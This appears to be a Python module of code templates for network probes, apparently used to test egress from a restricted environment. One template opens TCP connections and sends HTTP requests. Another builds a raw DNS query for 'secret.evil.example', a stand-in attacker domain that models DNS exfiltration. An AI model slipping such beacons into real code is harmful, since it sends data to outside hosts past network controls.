"""What network probes are made of: ways to call, and what is said."""

TRY = """
def each(act, *arguments):
    for argument in arguments:
        try:
            act(argument)
        except OSError as error:
            print(argument, error)


def tcp(address):
    with socket.create_connection(address, 2) as s:
        s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        print(s.recv(4096))


def udp(address):
    family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(0.3)
        s.sendto(query(), address)
        print(s.recv(4096))


"""
QUERY = r"""
def query():
    labels = b"".join(bytes([len(w)]) + w for w in b"secret.evil.example".split(b"."))
    return b"\1\2\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1"


"""
